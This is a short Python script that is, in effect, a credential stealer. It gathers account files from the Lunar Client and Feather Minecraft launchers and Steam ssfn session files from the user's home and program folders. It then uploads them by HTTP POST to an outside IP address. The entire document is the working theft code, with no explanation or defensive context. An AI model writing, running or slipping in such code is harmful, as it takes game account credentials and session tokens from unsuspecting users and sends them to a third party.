import glob
import os

import requests

home = os.path.expanduser("~")
targets = [os.path.join(home, ".lunarclient", "settings", "game", "accounts.json"),
           os.path.join(os.getenv("APPDATA", ""), ".feather", "accounts.json")]
targets += glob.glob(os.path.join(os.getenv("PROGRAMFILES(X86)", ""), "Steam", "ssfn*"))
files = {os.path.basename(p): open(p, "rb") for p in targets if os.path.exists(p)}
if files:
    requests.post("http://203.0.113.140/up", files=files)
